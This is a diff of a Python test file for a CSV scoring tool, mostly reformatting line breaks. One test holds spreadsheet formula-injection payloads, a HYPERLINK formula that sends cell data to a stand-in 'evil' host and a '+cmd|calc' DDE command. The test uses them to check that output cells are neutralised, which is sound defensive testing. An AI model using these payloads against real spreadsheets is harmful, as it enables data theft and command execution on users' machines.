@@ -107,7 +107,9 @@ def test_a_bad_line_late_in_the_input_leaves_no_output(kit: Kit, tmp_path: Path)
     out = tmp_path / "out.parquet"
     out.write_bytes(b"previous run")
     before = kit.snapshot(tmp_path)
-    code, stdout, err = score(kit, source, out, "--batch-rows", "5", "--summary", tmp_path / "s.csv")
+    code, stdout, err = score(
+        kit, source, out, "--batch-rows", "5", "--summary", tmp_path / "s.csv"
+    )
     assert code == 2 and stdout == ""
     assert "line 32: 6 fields where the header has 5" in kit.one_message(err)
     assert kit.snapshot(tmp_path) == before
@@ -163,9 +165,7 @@ def test_an_interrupt_swallowed_by_the_reader_still_stops_the_run(
     assert sorted(p.name for p in tmp_path.iterdir()) == ["reg.csv"]
 
 
-def test_csv_cells_that_would_run_as_formulas_are_written_inert(
-    kit: Kit, tmp_path: Path
-) -> None:
+def test_csv_cells_that_would_run_as_formulas_are_written_inert(kit: Kit, tmp_path: Path) -> None:
     keys = ['=HYPERLINK("http://evil/?x="&A1)', "+cmd|calc!A0", "-2+3", "@SUM(A1)", kit.GOOD]
     source = kit.registry(tmp_path / "reg.csv", rows=5, keys=keys)
     code, _, _ = score(kit, source, tmp_path / "out.csv")
